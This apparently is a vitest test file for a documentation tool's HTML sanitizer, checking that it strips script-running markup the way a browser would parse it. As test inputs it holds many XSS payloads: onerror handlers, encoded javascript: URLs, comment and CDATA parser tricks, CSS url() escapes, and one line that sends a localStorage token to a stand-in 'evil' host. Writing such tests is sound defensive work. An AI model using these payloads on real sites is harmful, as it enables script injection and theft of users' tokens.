import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../cli/markdown/sanitize-html.ts';
import type { HtmlPolicy } from '../../../cli/core/render-env.ts';

const policy: HtmlPolicy = { rawHtml: 'sanitize', iframeHosts: ['www.youtube-nocookie.com'] };
const clean = (html: string) => sanitizeHtml(html, policy);

describe('sanitizeHtml', () => {
  it('takes out what runs script, saying what and where', () => {
    const vectors: [string, string, string][] = [
      [
        '<img src="data:image/png,x" onerror="new Image().src=\'https://evil/?t=\'+localStorage.getItem(\'token\')">',
        '<img src="data:image/png,x">',
        'the onerror attribute of <img>',
      ],
      ['<IMG SRC=x ONERROR=alert(1)>', '<img src="x">', 'the onerror attribute of <img>'],
      ['<span onclick="x">y</span>', '<span>y</span>', 'the onclick attribute of <span>'],
      ['<svg onload="alert(1)"></svg>', '', 'the <svg> element'],
      ['<a href="javascript:alert(1)">x</a>', '<a>x</a>', 'the href of <a>, a javascript: URL'],
      ['<a href="jav&#x61;script&colon;alert(1)">x</a>', '<a>x</a>', 'the href of <a>, a javascript: URL'],
      ['<a href=" vbscript:x">x</a>', '<a>x</a>', 'the href of <a>, a vbscript: URL'],
      ['<a href="data:text/html,<script>x</script>">x</a>', '<a>x</a>', 'the href of <a>, a data: URL'],
      ['<script>alert(1)</script>ok', 'ok', 'the <script> element and its content'],
      [
        '<div style="background:url(javascript:alert(1))">a</div>',
        '<div>a</div>',
        'the style attribute of <div>, which loads a URL or runs code',
      ],
      [
        '<iframe src="https://evil.example/x"></iframe>',
        '<iframe></iframe>',
        'an <iframe> from https://evil.example/x, a host not in markdown.iframeHosts',
      ],
      ['<object data="x.swf"></object>', '', 'the <object> element'],
    ];
    for (const [html, expected, what] of vectors)
      expect(clean(html), html).toEqual({ html: expected, removed: [{ offset: 0, what }] });
  });

  it('keeps what documentation writes by hand', () => {
    for (const html of [
      '<details><summary>Ver mais</summary>texto</details>',
      '<kbd>Ctrl</kbd> + <kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup><br>',
      '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
      '<img src="/img/a.png" alt="a" width="10" height="20">',
      '<img src="data:image/svg+xml,%3Csvg%3E" alt="">',
      '<a href="https://exemplo.com.br">a</a> <a href="mailto:x@y.z">b</a> <a href="../x#y" target="_blank" rel="noopener">c</a>',
      '<div class="nota" id="topo" style="color: red" aria-label="x" data-x="1">a</div>',
      '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560" height="315" allowfullscreen=""></iframe>',
      '<!-- truncate -->',
    ]) {
      expect(clean(html), html).toEqual({ html, removed: [] });
    }
  });

  it('leaves comments as they are, whatever they hold', () => {
    for (const html of ['<!-- <a href="/docs/antiga">x</a> -->', 'a <!-- <script>x</script> --> b'])
      expect(clean(html), html).toEqual({ html, removed: [] });
    expect(clean('<!-- x --><img src=a onerror=b>').removed).toEqual([
      { offset: 10, what: 'the onerror attribute of <img>' },
    ]);
  });

  it('closes a comment never closed, which would otherwise hide the next fragment of the page from the check', () => {
    // A browser reads what follows this fragment (the rest of the page) as the comment, up to the next "-->", which
    // another fragment could hold in an attribute value: closed here, the comment ends where it was checked.
    expect(clean('<!-- nunca fechado <img onerror=x>')).toEqual({
      html: '<!-- nunca fechado <img onerror=x>-->',
      removed: [],
    });
  });

  it('leaves a "<" that starts no element as text', () => {
    expect(clean('a < b')).toEqual({ html: 'a &lt; b', removed: [] });
    expect(clean('<div>\nif a > b\n</div>').html).toBe('<div>\nif a &gt; b\n</div>');
  });

  it('reads a tag as a browser would: a "<" inside it starts an attribute name, not a tag', () => {
    // Browsers read `<b` here as an attribute of the <img> (the HTML standard's "attribute name state").
    expect(clean('<img src=x onerror=alert(1) <b>x</b>')).toEqual({
      html: '<img src="x">x</b>',
      removed: [
        { offset: 0, what: 'the onerror attribute of <img>' },
        { offset: 0, what: 'the <b attribute of <img>' },
      ],
    });
    expect(clean('<a href="x" <img src=y onerror=z>').html).toBe('<a href="x">');
    // An unquoted value runs to the next space or ">": the source is the relative URL "x/onerror=alert(1)".
    expect(clean('<img/src=x/onerror=alert(1)>').html).toBe('<img src="x/onerror=alert(1)">');
    expect(clean('<img src=x onerror\n=alert(1)>').html).toBe('<img src="x">');
  });

  it('gives the offset of each removal in the HTML it was given', () => {
    expect(clean('<p>ok</p>\n<img src=x onerror=y>\n<b onmouseover=z>b</b>').removed).toEqual([
      { offset: 10, what: 'the onerror attribute of <img>' },
      { offset: 32, what: 'the onmouseover attribute of <b>' },
    ]);
  });

  it('reads a snippet once per set of iframe hosts, however often pages repeat it', () => {
    const anchor = '<span aria-hidden="true">#</span>';
    expect(clean(anchor)).toBe(clean(anchor));
    const video = '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>';
    expect(clean(video).removed).toEqual([]);
    expect(sanitizeHtml(video, { rawHtml: 'sanitize', iframeHosts: [] }).removed).toHaveLength(1);
    expect(clean(video).removed).toEqual([]);
  });

  it('passes everything through when the site trusts its raw HTML', () => {
    const html = '<img src=x onerror="alert(1)"><script>x()</script>';
    expect(sanitizeHtml(html, { ...policy, rawHtml: 'trusted' })).toEqual({ html, removed: [] });
  });
});

/**
 * Issue 39: the sanitizer must read HTML as the HTML and CSS standards do, or what it keeps as a comment, a text or a
 * harmless value is markup, a request or code in the reader's browser.
 */
describe('sanitizeHtml reads HTML as a browser does', () => {
  const SCRIPT = '<script src="/media/p.0a1b2c3d4e.js"></script>';
  const removedScript = (offset: number) => [{ offset, what: 'the <script> element and its content' }];

  it('ends a comment where a browser ends it: at "--!>", at "<!-->" and at "<!--->"', () => {
    // The HTML standard's "incorrectly-closed-comment" and "abrupt-closing-of-empty-comment" parse errors.
    expect(clean(`<!-- n --!>${SCRIPT} -->`)).toEqual({ html: '<!-- n --> --&gt;', removed: removedScript(11) });
    expect(clean(`<!-->${SCRIPT}-->`)).toEqual({ html: '<!---->--&gt;', removed: removedScript(5) });
    expect(clean(`<!--->${SCRIPT}-->`)).toEqual({ html: '<!---->--&gt;', removed: removedScript(6) });
    expect(clean('<!-- a --!><img src=x onerror=alert(1)> -->')).toEqual({
      html: '<!-- a --><img src="x"> --&gt;',
      removed: [{ offset: 11, what: 'the onerror attribute of <img>' }],
    });
  });

  it('reads "<![CDATA[", "<?" and "</ " in HTML content as comments that end at the first ">"', () => {
    expect(clean(`<![CDATA[ x >${SCRIPT} ]]>`)).toEqual({
      html: '<!--[CDATA[ x --> ]]&gt;',
      removed: removedScript(13),
    });
    expect(clean('<?xml a="><img src=x onerror=alert(1)>"?>')).toEqual({
      html: '<!--?xml a="--><img src="x">"?&gt;',
      removed: [{ offset: 10, what: 'the onerror attribute of <img>' }],
    });
    expect(clean(`</ x>${SCRIPT}`).html).toBe('<!-- x-->');
  });

  it('removes srcdoc, a document of its own, from every iframe, allowed host or not', () => {
    const srcdoc = 'the srcdoc attribute of <iframe>, a document of its own that would not be sanitized';
    expect(clean(`<!-- n --!><iframe srcdoc="${SCRIPT.replace(/"/g, '')}"></iframe> -->`)).toEqual({
      html: '<!-- n --><iframe></iframe> --&gt;',
      removed: [{ offset: 11, what: srcdoc }],
    });
    expect(
      clean(
        '<iframe src="https://www.youtube-nocookie.com/embed/x" srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>',
      ),
    ).toEqual({
      html: '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>',
      removed: [{ offset: 0, what: srcdoc }],
    });
  });

  it("removes the island attributes, which would mount any of the site's components with the page's props", () => {
    const html = `<div data-island="Html" data-island-props='{"html":"<img src=x onerror=alert(1)>"}' data-x="1">a</div>`;
    expect(clean(html)).toEqual({
      html: '<div data-x="1">a</div>',
      removed: [
        {
          offset: 0,
          what: "the data-island attribute of <div>, which would mount one of the site's components; use the component in an MDX page",
        },
        { offset: 0, what: 'the data-island-props attribute of <div>, which only the compiler writes' },
      ],
    });
  });

  it('removes <meta>, <base> and <form>, saying what each would do, hidden in a comment or not', () => {
    expect(clean('<!-- n --!><meta http-equiv="refresh" content="0;url=https://evil.example/"> -->')).toEqual({
      html: '<!-- n --> --&gt;',
      removed: [{ offset: 11, what: 'the <meta> element, which can send the reader to another address' }],
    });
    expect(clean('<!-- n --!><base href="https://evil.example/"> -->')).toEqual({
      html: '<!-- n --> --&gt;',
      removed: [{ offset: 11, what: 'the <base> element, which changes where every link of the page leads' }],
    });
    expect(clean('<form action="https://evil.example/"><input name="senha"></form>')).toEqual({
      html: '',
      removed: [
        { offset: 0, what: 'the <form> element, which can send what the reader types elsewhere' },
        { offset: 37, what: 'the <input> element' },
      ],
    });
  });

  it('decodes CSS escapes and line continuations in a style attribute before it looks for what loads a URL', () => {
    const removed = [{ offset: 0, what: 'the style attribute of <span>, which loads a URL or runs code' }];
    for (const style of [
      'background:u\\72l(https://evil.example/a.png)',
      'background:u\\000072l(https://evil.example/a.png)',
      'background:u\\72 l(https://evil.example/a.png)',
      'background:ur\\\nl(https://evil.example/a.png)',
      'background:ur\\\r\nl(https://evil.example/a.png)',
      'background:\\55 RL(https://evil.example/a.png)',
      'background:&#x75;rl(https://evil.example/a.png)',
      "background-image:image-set('https://evil.example/a.png' 1x)",
      "background-image:-webkit-image-set('https://evil.example/a.png' 1x)",
      "background-image:im\\61ge-set('https://evil.example/a.png' 1x)",
      "background-image:image('https://evil.example/a.png')",
      "background-image:cross-fade(url('https://evil.example/a.png') 50%, red)",
      'mask:src("https://evil.example/a.svg")',
      // A "/*" inside a string opens no comment: the url() between the two strings is real.
      'content:"/*";background:url(https://evil.example/a.png);content:"*/"',
      'width:expr/**/ession(alert(1))',
      'width:\\65xpression(alert(1))',
      '--x:url(https://evil.example/a.png);background:var(--x)',
    ])
      expect(clean(`<span style="${style.replace(/"/g, '&quot;')}">a</span>`), style).toEqual({
        html: '<span>a</span>',
        removed,
      });
  });

  it('keeps styles that load nothing', () => {
    for (const html of [
      '<span style="color: red; font-family: \'Open Sans\', sans-serif">a</span>',
      '<div style="background: linear-gradient(90deg, #fff, rgb(0 0 0 / 50%)); width: calc(100% - 2em)">a</div>',
      '<span style="content: \'\\201C\'">a</span>',
    ])
      expect(clean(html), html).toEqual({ html, removed: [] });
  });

  it('removes every event handler, however it is hidden or spelled', () => {
    const onerror = (offset: number) => [{ offset, what: 'the onerror attribute of <img>' }];
    expect(clean('<img src=x onerror=alert(1)>').removed).toEqual(onerror(0));
    expect(clean('<!-- x --!><img src=x onerror=alert(1)> -->').removed).toEqual(onerror(11));
    expect(clean('<!--><img src=x onerror=alert(1)>-->').removed).toEqual(onerror(5));
    expect(clean('<![CDATA[><img src=x onerror=alert(1)>]]>').removed).toEqual(onerror(10));
    expect(clean('<img src=x OnErRoR="alert(1)" onload=a onfocus=b tabindex=1>')).toEqual({
      html: '<img src="x">',
      removed: ['onerror', 'onload', 'onfocus', 'tabindex'].map((name) => ({
        offset: 0,
        what: `the ${name} attribute of <img>`,
      })),
    });
  });

  it('reads the content of <textarea>, <title>, <xmp>, <noscript> and <style> as text, as a browser does', () => {
    expect(clean('<textarea><!--</textarea><img src=x onerror=alert(1)>-->').html).toBe('&lt;!--<img src="x">--&gt;');
    expect(clean('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>').html).toBe(
      '<img src="x">"&gt;',
    );
    expect(clean('<xmp><img src=x onerror=alert(1)></xmp>').html).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(clean('<title><img src=x onerror=alert(1)></title>').html).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(clean('<style><!--</style><img src=x onerror=alert(1)>-->').html).toBe('<img src="x">--&gt;');
  });

  it('writes back complete markup, so that no fragment changes how a browser reads the next one', () => {
    // A page is many fragments of raw HTML with Markdown's own HTML between them, each checked alone: each must leave
    // a browser's tokenizer in the state it found it in.
    expect(clean('<iframe src="https://www.youtube-nocookie.com/embed/x">').html).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>',
    );
    expect(clean('<img alt="--><script>alert(1)</script>">').html).toBe(
      '<img alt="--&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
    );
    expect(clean('<!-- a -- b --->').html).toBe('<!-- a - - b - -->');
    expect(clean('texto <div\n  onclick=x')).toEqual({
      html: 'texto ',
      removed: [{ offset: 6, what: 'an unfinished tag (<div)' }],
    });
  });

  it('checks attribute values as a browser decodes them, and writes them so that they decode the same', () => {
    expect(clean('<a href="jav&#x0A;ascript:alert(1)">x</a>').html).toBe('<a>x</a>');
    expect(clean('<a href="&#106;avascript:alert(1)">x</a>').html).toBe('<a>x</a>');
    // Decoded, this is the text "javascript&colon;…", a relative URL; written back, it must not decode twice.
    expect(clean('<a href="javascript&amp;colon;alert(1)">x</a>').html).toBe(
      '<a href="javascript&amp;colon;alert(1)">x</a>',
    );
    expect(clean("<a title='&quot;x&quot; &lt;b&gt;'>x</a>").html).toBe('<a title="&quot;x&quot; &lt;b&gt;">x</a>');
  });

  it('takes out <template> with all it holds, however deeply nested, and a <!DOCTYPE>', () => {
    expect(
      clean('<template><template></template><img src=x onerror=alert(1)><script>x</script></template>ok').html,
    ).toBe('ok');
    expect(clean('<!DOCTYPE html><p>x</p>')).toEqual({
      html: '<p>x</p>',
      removed: [{ offset: 0, what: 'a <!DOCTYPE> declaration' }],
    });
  });
});
